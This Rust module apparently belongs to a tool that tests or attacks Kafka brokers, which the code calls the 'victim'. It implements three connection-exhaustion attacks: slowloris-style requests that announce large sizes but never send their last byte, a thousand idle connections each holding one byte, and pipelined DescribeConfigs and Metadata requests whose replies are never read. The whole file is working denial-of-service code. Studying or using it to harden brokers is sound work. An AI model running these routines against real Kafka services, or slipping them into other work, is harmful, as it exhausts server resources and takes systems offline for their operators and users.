//! Connections that cost something without asking for much.

use anyhow::Result;
use kafka_protocol::messages::describe_configs_request::DescribeConfigsResource;
use kafka_protocol::messages::{DescribeConfigsRequest, MetadataRequest};

use super::{Attack, hold};
use crate::wire::{Connection, frame, text};

/// Requests that are announced: one that may be, and one that may not.
const ANNOUNCED: [usize; 2] = [24 << 20, 99 << 20];
/// Topics whose settings are asked for.
const TOPICS: usize = 50;
/// Requests on each connection whose answers are not read.
const UNREAD: usize = 20;

/// Requests without their last byte.
pub(super) fn frames_half(attack: &Attack<'_>) -> Result<()> {
    let body = vec![0; 64 << 10];
    let mut open = Vec::new();
    for at in 0..64 {
        let mut connection = attack.victim.connect(at)?;
        connection.set_patience(attack.time / 20)?;
        let size = ANNOUNCED[at % 2];
        connection.send(&u32::try_from(size)?.to_be_bytes());
        let mut left = size - 1;
        while left > 0 && connection.send(&body[..left.min(body.len())]) {
            left -= left.min(body.len());
        }
        open.push(connection);
    }
    hold(attack, open)
}

/// Connections that have sent the first byte of a request.
pub(super) fn idle(attack: &Attack<'_>) -> Result<()> {
    let mut open = Vec::new();
    for at in 0..1_000 {
        let mut connection = attack.victim.connect(at)?;
        connection.send(&[0]);
        open.push(connection);
    }
    hold(attack, open)
}

/// Answers of which nothing is taken.
pub(super) fn unread(attack: &Attack<'_>) -> Result<()> {
    let names: Vec<String> = (0..TOPICS).map(|at| format!("unread-{at}")).collect();
    let mut first = attack.victim.connect(0)?;
    names
        .iter()
        .try_for_each(|name| first.create(name, 1, &[]))?;
    let resource = |name: &String| {
        DescribeConfigsResource::default()
            .with_resource_type(2)
            .with_resource_name(text(name))
            .with_configuration_keys(None)
    };
    let configs = DescribeConfigsRequest::default()
        .with_resources(names.iter().map(resource).collect())
        .with_include_synonyms(true);
    let (configs, metadata) = (frame(&configs, 4)?, frame(&MetadataRequest::default(), 1)?);
    let mut open: Vec<Connection> = Vec::new();
    for at in 0..64 {
        let mut connection = attack.victim.connect(at)?;
        connection.set_patience(attack.time / 20)?;
        for _ in 0..UNREAD {
            if !(connection.send(&configs) && connection.send(&metadata)) {
                break;
            }
        }
        open.push(connection);
    }
    hold(attack, open)
}
